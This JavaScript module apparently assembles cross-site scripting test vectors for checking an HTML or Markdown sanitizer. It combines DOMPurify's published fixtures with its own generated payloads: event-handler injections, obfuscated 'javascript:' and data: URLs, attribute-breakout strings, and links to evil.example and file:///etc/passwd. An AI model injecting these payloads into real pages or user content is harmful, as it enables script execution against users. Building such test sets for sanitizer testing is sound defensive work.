// What a hostile text may hold: DOMPurify's published fixtures, and what cheat sheets of cross-site scripting know, in an order of our own.
import fixtures from 'dompurify-fixtures/test/fixtures/expect.js';
import { elements } from './vector-elements.mjs';

/** Every vector's script calls this, so that a run is told whatever the way in. */
const run = 'alert(1)';

/** Events that an element may fire of itself or at a touch. */
const events =
  'error load focus focusin blur click mouseover mouseenter pointerenter pointerover wheel scroll scrollend copy cut paste beforecopy input change submit reset toggle beforetoggle animationstart transitionrun canplay loadstart loadeddata play pageshow hashchange message popstate resize beforeinput beforematch contentvisibilityautostatechange auxclick selectionchange drag dragenter drop touchstart keydown securitypolicyviolation';

/** Elements that such handlers are known to work on. */
const holders = [
  'img src=x',
  'svg',
  'body',
  'video src=x autoplay',
  'input autofocus',
  'details open',
  'select autofocus',
  'div tabindex=0 autofocus',
];

/** Spellings of an address that runs; `:` and the letters are written in every way that browsers have once understood. */
const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `\tjavascript:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `java\rscript:${run}`,
  `javascript\t:${run}`,
  `\u0001javascript:${run}`,
  `\u00A0javascript:${run}`,
  `\u2028javascript:${run}`,
  `javascript&colon;${run}`,
  `javascript&#58;${run}`,
  `javascript&#x3A;${run}`,
  `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${run}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${run}`,
  `java&Tab;script:${run}`,
  `java&NewLine;script:${run}`,
  `javascript://evil.example/%0A${run}`,
  `javascript:/*http://*/${run}`,
  `http:javascript:${run}`,
  `http://evil.example/"onmouseover="${run}`,
  `http://evil.example/'onmouseover='${run}`,
  `http://evil.example/><script>${run}</script>`,
  `https://user:password@evil.example/`,
  `mailto:a@b.example?body=<script>${run}</script>"onclick="${run}`,
  `vbscript:${run}`,
  `livescript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,${Buffer.from(`<script>${run}</script>`).toString('base64')}`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
  `data:application/xhtml+xml,<x/>`,
  `view-source:http://evil.example/`,
  `file:///etc/passwd`,
  `blob:http://evil.example/1`,
  `filesystem:http://evil.example/x`,
  `about:blank`,
  `chrome://settings`,
  `feed:javascript:${run}`,
  `jar:http://evil.example/x!/x`,
  `ms-its:x`,
  `intent://x#Intent;scheme=javascript;end`,
  `//evil.example/x`,
  `\\\\evil.example\\x`,
  `/\\evil.example`,
  `http:\\\\evil.example`,
  `https:evil.example`,
  `http://evil.example#javascript:${run}`,
  `#"><img src=x onerror=${run}>`,
  `?javascript:${run}`,
];

/** How a text comes to hold an address: in HTML, in Markdown, in what looks like either. */
const links = [
  (href) => `<a href="${href}">x</a>`,
  (href) => `[x](${href})`,
  (href) => `[x](<${href}>)`,
  (href) => `![x](${href})`,
  (href) => `<${href}>`,
  (href) => `[x][y]\n\n[y]: ${href}`,
];

const unique = (texts) => [...new Set(texts)];

/** Addresses alone, as a field for a link may hold them. */
export const hostileAddresses = unique(addresses);

/** DOMPurify's published fixtures, as they are in the last release that carries them. */
export const published = unique(fixtures.map(({ payload }) => payload));

/** Our own sheet. */
export const sheet = unique([
  ...elements.map((make) => make(run)),
  ...events.split(' ').map((event, at) => `<${holders[at % holders.length]} on${event}=${run}>`),
  ...holders.map((holder) => `<${holder} onload=${run} onerror=${run} onfocus=${run} ontoggle=${run}>`),
  ...addresses.flatMap((href, at) => [links[at % links.length](href), links[(at + 1) % links.length](href)]),
]);

/** All vectors. */
export const vectors = unique([...published, ...sheet, ...hostileAddresses]);
